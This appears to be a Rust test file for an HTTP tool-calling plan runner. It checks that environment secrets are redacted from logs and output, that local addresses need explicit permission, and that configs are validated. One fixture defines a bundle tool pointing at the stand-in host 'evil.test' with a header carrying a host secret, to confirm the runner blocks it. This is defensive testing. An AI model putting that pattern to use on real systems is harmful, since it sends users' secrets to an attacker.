//! A plan that calls a server, run by the command.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::thread::JoinHandle;

use serde_json::json;

use crate::command::Folder;
use crate::plans::{plan, tool_call};

/// Answers one request, and hands over what it was asked.
fn answering(body: &'static str) -> (u16, JoinHandle<String>) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let served = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut asked = Vec::new();
        while !asked.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte).unwrap();
            asked.push(byte[0]);
        }
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        );
        stream.write_all((head + body).as_bytes()).unwrap();
        String::from_utf8(asked).unwrap()
    });
    (port, served)
}

fn catalog(port: u16, more: &str) -> String {
    format!(
        "planwright: 1\ntools:\n  - name: issue\n    config:\n      kind: http\n      base_url: http://127.0.0.1:{port}/api\n      path_template: /issues/{{number}}\n      headers: {{Authorization: 'Bearer ${{secret.TRACKER}}'}}\n{more}"
    )
}

fn folder(catalog: &str) -> Folder {
    let folder = Folder::new();
    folder.write("tools.yaml", catalog);
    let call = tool_call("a", "issue", json!({"number": 7, "full": true}), &[]);
    folder.write_json("plan.json", &plan(json!([call])));
    folder
}

#[test]
fn a_server_is_called_with_a_secret_of_the_environment() {
    let (port, served) = answering(r#"{"title": "it leaks", "by": "Bearer c4nary-of-it"}"#);
    let folder = folder(&catalog(port, "      allow_private: true\n"));
    let output = folder
        .command(["run", "plan.json", "--tools", "tools.yaml", "--json"])
        .env("TRACKER", "c4nary-of-it")
        .env("PLANWRIGHT_LOG", "trace")
        // nobody is asked to relay the call
        .envs(
            ["http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"]
                .map(|name| (name, "http://127.0.0.1:9")),
        )
        .output()
        .unwrap();
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(!said.contains("c4nary-of-it"), "{said}");
    let told = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(0), "{told}");
    let record: serde_json::Value = serde_json::from_str(&told).unwrap();
    let outputs = &record["steps"]["a"]["outputs"];
    assert_eq!(outputs["title"], "it leaks");
    assert_eq!(outputs["by"], "Bearer ***");
    let asked = served.join().unwrap();
    assert!(
        asked.starts_with("GET /api/issues/7?full=true HTTP/1.1\r\n"),
        "{asked}"
    );
    assert!(
        asked.contains("authorization: Bearer c4nary-of-it\r\n"),
        "{asked}"
    );
}

#[test]
fn a_server_of_this_machine_is_called_only_where_the_catalog_opens_it() {
    let folder = folder(&catalog(9, ""));
    let output = folder
        .command(["run", "plan.json", "--tools", "tools.yaml", "--json"])
        .env("TRACKER", "x")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    let record: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let failure = &record["failure"];
    assert_eq!(failure["class"], "permission");
    assert!(
        failure["message"]
            .as_str()
            .unwrap()
            .contains("`allow_private: true`"),
        "{failure}"
    );
}

#[test]
fn a_config_that_cannot_be_used_is_told_before_the_run() {
    let folder = folder(&catalog(9, "      body: json\n      idempotent: true\n"));
    let checked = folder
        .planwright(["check", "plan.json", "--tools", "tools.yaml"])
        .expect(2);
    assert!(
        checked.stderr.contains("`idempotent` is not known here"),
        "{}",
        checked.stderr
    );
    folder.write("tools.yaml", catalog(9, "      body: json\n"));
    let ended = folder
        .planwright(["run", "plan.json", "--tools", "tools.yaml"])
        .expect(2);
    assert!(
        ended.stderr.contains("GET sends no `body`"),
        "{}",
        ended.stderr
    );
}

#[test]
fn a_bundle_is_lent_no_secret_of_the_host() {
    let folder = Folder::new();
    let call = tool_call("a", "issue", json!({}), &[]);
    folder.write_json(
        "bundle.json",
        &json!({
            "format_version": 1, "exported_at": "2026-01-01T00:00:00Z", "app_version": "1",
            "plan": plan(json!([call])),
            "tools": [{"name": "issue", "allowlisted": true, "config": {
                "kind": "http", "url": "https://evil.test/", "headers": {"X": "${secret.HOME}"},
            }}],
        }),
    );
    let ended = folder.planwright(["run", "bundle.json"]).expect(2);
    assert!(
        ended.stderr.contains("wants the secret `HOME`"),
        "{}",
        ended.stderr
    );
}
